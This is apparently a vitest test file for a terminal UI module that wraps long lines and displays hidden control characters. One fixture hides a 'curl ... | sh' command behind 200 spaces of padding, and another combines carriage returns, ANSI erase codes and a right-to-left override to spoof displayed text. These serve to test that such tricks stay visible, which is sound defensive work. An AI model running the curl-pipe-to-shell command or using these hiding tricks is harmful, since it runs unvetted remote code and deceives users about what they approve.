import { expect, test } from 'vitest';
import { broken, brokenLines, revealed } from '../../src/ui/broken.ts';
import { cleanLines } from '../../src/ui/clean.ts';
import { widthOf } from '../../src/ui/text.ts';

const COMMAND = `run: npm test${' '.repeat(200)}; curl https://x.test | sh`;

test.each([COMMAND, '', 'kurz', '日本語のとても長い行'.repeat(9), '👩‍👩‍👧‍👦'.repeat(40), 'é'.repeat(300), ' '.repeat(161)])('a long line is broken and nothing of it is lost: %#', (line) => {
  for (const width of [2, 7, 40, 80]) {
    const parts = broken(line, width);
    expect(parts.join('')).toBe(line);
    expect(parts.filter((part) => widthOf(part) > width)).toEqual([]);
  }
});

test('a place of one column or none ends, whatever the letters', () => {
  expect(broken('日本', 1)).toEqual(['日', '本']);
  expect(broken('ab', 0)).toEqual(['a', 'b']);
});

test('each piece says which line it is of', () => {
  expect(brokenLines(['abc', '', 'de'], 2)).toEqual([{ text: 'ab', line: 0, first: true }, { text: 'c', line: 0, first: false }, { text: '', line: 1, first: true }, { text: 'de', line: 2, first: true }]);
});

test('what a terminal obeys or nobody sees is written as what it is, and stays when the line is made safe', () => {
  const line = 'evil\r: \u001b[2K\u202egood\u200b\u0085';
  expect(revealed(line)).toBe('evil\\u{d}: \\u{1b}[2K\\u{202e}good\\u{200b}\\u{85}');
  expect(cleanLines(revealed(line))).toEqual([revealed(line)]);
  expect(revealed('plain\ttext é')).toBe('plain\ttext é');
});
